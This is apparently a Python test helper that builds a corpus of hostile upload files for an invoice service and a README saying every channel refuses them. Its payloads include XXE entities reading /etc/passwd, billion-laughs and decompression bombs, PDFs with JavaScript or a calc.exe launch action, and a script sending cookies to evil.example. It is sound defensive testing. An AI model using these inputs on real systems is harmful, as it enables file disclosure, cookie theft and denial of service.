"""Make the hostile corpus: ``.venv/bin/python -m tests.hostile.make_corpus``.

Writes every file of ``cases.CASES`` (and the few helpers) into ``files/``, then README.md from
the same table. Running it again rewrites the same bytes, but for the encrypted PDF (its
encryption is salted at random)."""

import io
import struct
import sys
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from tests.connect.samples import ubl
from tests.hostile.cases import (
    CASES,
    FILES,
    HERE,
    LOOPING_PDF,
    NAMES,
    NETWORK_ACCEPTED,
    NETWORK_PLACEHOLDER,
    QUALITY,
    VALID_PDF,
    WORKER_PNG,
)

URL = f"http://{NETWORK_PLACEHOLDER}"
UBL_ROOT = b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">'


def _pdf(writer: PdfWriter) -> bytes:
    writer.add_metadata({"/Producer": "hostile corpus", "/CreationDate": "D:20260101000000Z"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page_pdf() -> tuple[PdfWriter, object]:
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    return writer, page


def valid_pdf() -> bytes:
    return _pdf(_page_pdf()[0])


def _js(script: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    )


def pdf_encrypted() -> bytes:
    writer, _page = _page_pdf()
    writer.encrypt("secret", algorithm="AES-128")
    return _pdf(writer)


def pdf_names_javascript() -> bytes:
    writer, _page = _page_pdf()
    tree = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [
                    TextStringObject("init"),
                    writer._add_object(_js("app.alert('document-level script');")),
                ]
            )
        }
    )
    names = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    writer._root_object[NameObject("/Names")] = writer._add_object(names)
    return _pdf(writer)


def pdf_openaction(action: DictionaryObject) -> bytes:
    writer, _page = _page_pdf()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _pdf(writer)


def pdf_openaction_next_js() -> bytes:
    writer, page = _page_pdf()
    goto = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
            NameObject("/Next"): writer._add_object(_js("app.alert('chained');")),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(goto)
    return _pdf(writer)


def pdf_link_javascript() -> bytes:
    writer, page = _page_pdf()
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 300, 100)]),
            NameObject("/A"): _js("app.launchURL('https://evil.example/');"),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _pdf(writer)


def pdf_outline_javascript() -> bytes:
    """A bookmark (second outline item) whose action runs JavaScript."""
    writer, _page = _page_pdf()
    writer.add_outline_item("Facture", 0)
    second = writer.add_outline_item("Conditions", 0)
    second.get_object()[NameObject("/A")] = writer._add_object(_js("app.alert('outline');"))
    return _pdf(writer)


def pdf_field_actions() -> bytes:
    """A form field whose parent (not on any page) carries a calculation script."""
    writer, page = _page_pdf()
    widget = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 200, 80)]),
        }
    )
    widget_ref = writer._add_object(widget)
    parent = DictionaryObject(
        {
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("total"),
            NameObject("/Kids"): ArrayObject([widget_ref]),
            NameObject("/AA"): DictionaryObject({NameObject("/C"): _js("event.value = 1;")}),
        }
    )
    parent_ref = writer._add_object(parent)
    widget[NameObject("/Parent")] = parent_ref
    page[NameObject("/Annots")] = ArrayObject([widget_ref])
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(
        DictionaryObject({NameObject("/Fields"): ArrayObject([parent_ref])})
    )
    return _pdf(writer)


def pdf_loops() -> bytes:
    """Harmless but looping: an /OpenAction GoTo whose /Next is itself, and an outline whose
    last item points back to the first. Received; the checks end."""
    writer, page = _page_pdf()
    goto = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
        }
    )
    goto_ref = writer._add_object(goto)
    goto[NameObject("/Next")] = goto_ref
    writer._root_object[NameObject("/OpenAction")] = goto_ref
    first = writer.add_outline_item("Page 1", 0)
    last = writer.add_outline_item("Page 1 again", 0)
    last.get_object()[NameObject("/Next")] = first
    return _pdf(writer)


def pdf_embedding(name: str, content: bytes) -> bytes:
    writer = _page_pdf()[0]
    writer.add_attachment(name, content)
    return _pdf(writer)


def docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


CII_DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">
&xxe;</rsm:CrossIndustryInvoice>"""


def pdf_embedded_bomb() -> bytes:
    """factur-x.xml as a Flate stream of 64 KB that inflates to 64 MB."""
    writer = _page_pdf()[0]
    writer.add_attachment("factur-x.xml", b"placeholder")
    data = zlib.compress(b"<" + b" " * (64 * 1024 * 1024), 9)
    for spec in writer._root_object["/Names"]["/EmbeddedFiles"]["/Names"][1::2]:
        stream = spec.get_object()["/EF"]["/F"].get_object()
        stream.set_data(b"")
        stream._data = data
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    return _pdf(writer)


CII_MINIMAL = (
    b'<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:'
    b'standard:CrossIndustryInvoice:100"/>'
)


def _filespec(writer: PdfWriter, name: str, streams: dict[str, bytes], **entries: object) -> object:
    refs = {}
    for key, data in streams.items():
        stream = DecodedStreamObject()
        stream.set_data(data)
        for entry, value in entries.items():
            stream[NameObject(f"/{entry}")] = value
        refs[NameObject(key)] = writer._add_object(stream)
    return writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Filespec"),
                NameObject("/F"): TextStringObject(name),
                NameObject("/EF"): DictionaryObject(refs),
            }
        )
    )


def pdf_embedding_specs(*specs: tuple[str, object]) -> bytes:
    writer = _page_pdf()[0]
    names = ArrayObject()
    for name, make in specs:
        names += [TextStringObject(name), make(writer)]
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/EmbeddedFiles"): DictionaryObject({NameObject("/Names"): names})}
    )
    return _pdf(writer)


def pdf_embedded_hex_exe() -> bytes:
    return pdf_embedding_specs(
        ("factur-x.xml", lambda w: _filespec(w, "factur-x.xml", {"/F": CII_MINIMAL})),
        (
            "run.exe",
            lambda w: _filespec(
                w,
                "run.exe",
                {"/F": pe().hex().encode() + b">"},
                Filter=NameObject("/ASCIIHexDecode"),
            ),
        ),
    )


def pdf_embedded_uf_f_apart() -> bytes:
    return pdf_embedding_specs(
        ("factur-x.xml", lambda w: _filespec(w, "factur-x.xml", {"/UF": CII_MINIMAL, "/F": pe()}))
    )


def pdf_embedded_deep() -> bytes:
    writer = _page_pdf()[0]
    node = DictionaryObject({NameObject("/Names"): ArrayObject()})
    for _ in range(40):
        node = DictionaryObject({NameObject("/Kids"): ArrayObject([writer._add_object(node)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/EmbeddedFiles"): node}
    )
    return _pdf(writer)


def elf() -> bytes:
    """The smallest x86-64 Linux program: exit(0)."""
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # mov eax, 60; xor edi, edi; syscall
    base, header_size = 0x400000, 64 + 56
    ehdr = struct.pack(
        "<4sBBBBB7sHHIQQQIHHHHHH",
        b"\x7fELF",
        2,  # 64-bit
        1,  # little-endian
        1,  # version
        0,  # System V
        0,
        b"\0" * 7,
        2,  # ET_EXEC
        0x3E,  # x86-64
        1,
        base + header_size,  # entry
        64,  # program headers
        0,
        0,
        64,
        56,
        1,
        0,
        0,
        0,
    )
    total = header_size + len(code)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, total, total, 0x1000)
    return ehdr + phdr + code


def pe() -> bytes:
    """A Windows PE32+ header (DOS stub, PE signature, COFF and optional headers)."""
    dos = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x40)
    coff = struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 240, 0x0022)
    optional = struct.pack("<HBB", 0x20B, 14, 0) + b"\0" * 64 + struct.pack("<H", 3)
    optional += b"\0" * (240 - len(optional))
    return dos + b"PE\0\0" + coff + optional + b"\0" * 256


def zip_of_pdf() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("facture.pdf", date_time=(2026, 1, 1, 0, 0, 0))
        archive.writestr(info, valid_pdf())
    return out.getvalue()


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (640, 480), (200, 120, 40)).save(out, "JPEG", quality=80)
    return out.getvalue()


def png_bomb(side: int) -> bytes:
    out = io.BytesIO()
    Image.new("1", (side, side), 0).save(out, "PNG", optimize=True)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def png_broken_stream() -> bytes:
    """Sound PNG chunks around pixel data that is not a zlib stream."""
    header = struct.pack("!IIBBBBB", 400, 300, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", b"\x78\x9c" + b"\xff" * 64)
        + _chunk(b"IEND", b"")
    )


def ubl_with_doctype(doctype: bytes, *, between: bytes = b"") -> bytes:
    """The sample UBL invoice with ``doctype`` (and ``between`` before it) after its XML
    declaration; ``&xxe;`` in the doctype's entities is used as the buyer reference."""
    declaration, rest = ubl().split(b"\n", 1)
    if b"&xxe;" in doctype or b"ENTITY xxe" in doctype:
        rest = rest.replace(b"<cbc:BuyerReference>0150abc", b"<cbc:BuyerReference>&xxe;", 1)
    return declaration + b"\n" + between + doctype + b"\n" + rest


XXE_FILE = b'<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_NETWORK = f'<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "{URL}/xxe">]>'.encode()
XXE_PARAMETER = (
    f'<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "{URL}/parameter.dtd"> %remote;]>'.encode()
)
EXTERNAL_DTD = f'<!DOCTYPE Invoice SYSTEM "{URL}/invoice.dtd">'.encode()

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Invoice [\n <!ENTITY lol0 "lol">\n'
    + b"".join(f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n'.encode() for n in range(1, 10))
    + b"]>\n"
    + UBL_ROOT
    + b"&lol9;</Invoice>\n"
)
NOT_UBL = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<Order xmlns="urn:example:order"><ID>PO-1</ID><Total>121.00</Total></Order>\n'
)
UBL_INCOMPLETE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"\n'
    b' xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">\n'
    b"<cbc:ID>F-1</cbc:ID></Invoice>\n"
)


def utf16(data: bytes) -> bytes:
    text = data.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    return text.encode("utf-16")  # with its byte-order mark


def ubl_xinclude() -> bytes:
    xinclude = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{URL}/xinclude.xml"'
        ' parse="text"/>'
    ).encode()
    return ubl().replace(b"<cbc:AccountingCost>", xinclude + b"<cbc:AccountingCost>", 1)


def ubl_schemalocation() -> bytes:
    location = (
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation='
        f'"urn:oasis:names:specification:ubl:schema:xsd:Invoice-2 {URL}/UBL-Invoice-2.1.xsd"'
    ).encode()
    root = b'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"'
    return ubl().replace(root, root + location, 1)


CONTENT = {
    "html-as-pdf": lambda: (
        b"<!DOCTYPE html>\n<html><head><title>Facture</title></head><body>"
        b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        b"<p>Facture 2026-001</p></body></html>\n"
    ),
    "elf-as-pdf": elf,
    "pe-as-pdf": pe,
    "pe-setup": pe,
    "zip-as-pdf": zip_of_pdf,
    "zip": zip_of_pdf,
    "pdf-as-exe": valid_pdf,
    "pdf-double-ext": valid_pdf,
    "pe-double-ext": pe,
    "jpeg-as-pdf": jpeg,
    "pdf-encrypted": pdf_encrypted,
    "pdf-truncated": lambda: valid_pdf()[:-200],
    "pdf-corrupt": lambda: b"%PDF-1.7\n" + b"garbage " * 200 + b"\n%%EOF\n",
    "pdf-names-javascript": pdf_names_javascript,
    "pdf-openaction-js": lambda: pdf_openaction(_js("app.alert('opened');")),
    "pdf-openaction-launch": lambda: pdf_openaction(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject("C:\\Windows\\System32\\calc.exe"),
            }
        )
    ),
    "pdf-openaction-next-js": pdf_openaction_next_js,
    "pdf-link-javascript": pdf_link_javascript,
    "pdf-outline-javascript": pdf_outline_javascript,
    "pdf-field-actions": pdf_field_actions,
    "pdf-embedded-exe": lambda: pdf_embedding("setup.exe", pe()),
    "pdf-embedded-pdf": lambda: pdf_embedding("annexe.pdf", valid_pdf()),
    "pdf-embedded-docx": lambda: pdf_embedding("contrat.docx", docx()),
    "pdf-embedded-exe-as-xml": lambda: pdf_embedding("factur-x.xml", pe()),
    "pdf-embedded-doctype": lambda: pdf_embedding("factur-x.xml", CII_DOCTYPE),
    "pdf-embedded-hex-exe": pdf_embedded_hex_exe,
    "pdf-embedded-uf-f-apart": pdf_embedded_uf_f_apart,
    "pdf-embedded-bomb": pdf_embedded_bomb,
    "pdf-embedded-deep": pdf_embedded_deep,
    "bomb-64mpx": lambda: png_bomb(8000),
    "bomb-256mpx": lambda: png_bomb(16000),
    "jpeg-truncated": lambda: jpeg()[:300],
    "zero-byte": lambda: b"",
    "xml-doctype": lambda: ubl_with_doctype(b"<!DOCTYPE Invoice>"),
    "xxe-file": lambda: ubl_with_doctype(XXE_FILE),
    "xxe-network": lambda: ubl_with_doctype(XXE_NETWORK),
    "xxe-parameter": lambda: ubl_with_doctype(XXE_PARAMETER),
    "xml-external-dtd": lambda: ubl_with_doctype(EXTERNAL_DTD),
    "xml-doctype-utf16": lambda: utf16(ubl_with_doctype(XXE_NETWORK)),
    "xml-doctype-late": lambda: ubl_with_doctype(
        XXE_NETWORK, between=b"<!-- " + b"padding " * 9000 + b"-->\n"
    ),
    "billion-laughs": lambda: BILLION_LAUGHS,
    "xml-not-ubl": lambda: NOT_UBL,
    "ubl-incomplete": lambda: UBL_INCOMPLETE,
    "ubl-xinclude": ubl_xinclude,
    "ubl-schemalocation": ubl_schemalocation,
}


def readme() -> str:
    lines = [
        "# Hostile corpus",
        "",
        "Files that every channel (web upload, API, e-mail over SMTP, the Postmark webhook) must",
        "refuse with a clear, translated reason, leaving no row, no stored file and no temporary",
        "file (`tests/security/test_hostile_corpus.py`). Made by `make_corpus.py` from the table",
        "in `cases.py` (`.venv/bin/python -m tests.hostile.make_corpus`); this README too.",
        "",
        "QUALITY.md bullets covered (column Q):",
        "",
        *(f"- **{key}**: {text}" for key, text in QUALITY.items()),
        "",
        "| file | sent as | what it is | refused with (code) | Q |",
        "|---|---|---|---|---|",
    ]
    lines += [
        f"| `files/{case.path.name}` | `{case.send_as}` | {case.what} | "
        f"{case.reason[1]}… (`{case.code}`) | {case.quality} |"
        for case in CASES
    ]
    lines += [
        "",
        "Made at test time, not kept as files:",
        "",
        "| case | refused with (code) | Q |",
        "|---|---|---|",
        "| `valid.pdf` sent with `CONNECT_MAX_UPLOAD_SIZE` one byte below its size | "
        "The file is larger than… (`too_large`) | size |",
        "| one file more than `CONNECT_MAX_FILES_PER_REQUEST` | web: Send at most N files at "
        'once (nothing kept); e-mail: the extra attachments are named in the answer, "at most '
        'N attachments per message" (the first N are received); API: one file per request '
        "| size |",
        "| the EICAR test file (built from two halves in `cases.eicar()`, so that no scanner "
        "flags the repository), alone, in an e-mail and inside a UBL invoice | A virus was "
        "found… (`virus_found`); clamd down: The virus scan is unavailable… "
        "(`virus_scan_unavailable`) | issue 8 |",
        "",
        "Network cases (`network`): the tests put the port of a loopback HTTP server in place",
        f"of `{NETWORK_PLACEHOLDER}` and check that it received no request. Two valid invoices",
        "point at it without a DTD and are accepted, nothing fetched:",
        "",
    ]
    lines += [f"- `files/{case.path.name}`: {case.what}" for case in NETWORK_ACCEPTED]
    lines += [
        "",
        "`files/pdf-loops.pdf` is harmless but loops (an /OpenAction whose /Next is itself, an",
        "outline whose last item points back to the first): received, the checks end.",
        "",
        "`files/png-broken-stream.png` has sound chunks around pixel data that is not a zlib",
        "stream: it passes the checks at receive and fails in the worker, which must survive it",
        "(processing failed, then quarantined after `CONNECT_PROCESSING_MAX_ATTEMPTS`).",
        "",
        "File names (**names**), each sent with `files/valid.pdf`: accepted, stored under a",
        "generated path, shown escaped, offered back in a safe `Content-Disposition`:",
        "",
        "| case | sent as | kept as |",
        "|---|---|---|",
    ]
    for case_id, raw, kept in NAMES:
        shown = raw.encode("unicode_escape").decode()
        if len(shown) > 40:
            shown = f"{shown[:12]}… ({len(raw)} characters)"
            kept = f"{kept[:12]}… ({len(kept)} characters)"
        lines.append(f"| {case_id} | `{shown.replace('|', '¦')}` | `{kept}` |")
    return "\n".join(lines) + "\n"


def main() -> None:
    FILES.mkdir(exist_ok=True)
    wanted = {
        **{case.path: CONTENT[case.id] for case in (*CASES, *NETWORK_ACCEPTED)},
        VALID_PDF: valid_pdf,
        LOOPING_PDF: pdf_loops,
        WORKER_PNG: png_broken_stream,
    }
    for path, make in wanted.items():
        data = make()
        if len(data) > 200 * 1024:
            raise SystemExit(f"{path.name} is {len(data)} bytes: keep the corpus small")
        path.write_bytes(data)
    for stale in set(FILES.iterdir()) - set(wanted):
        stale.unlink()
    (HERE / "README.md").write_text(readme(), encoding="utf-8")
    sys.stdout.write(f"{len(wanted)} files in {FILES}\n")


if __name__ == "__main__":
    main()
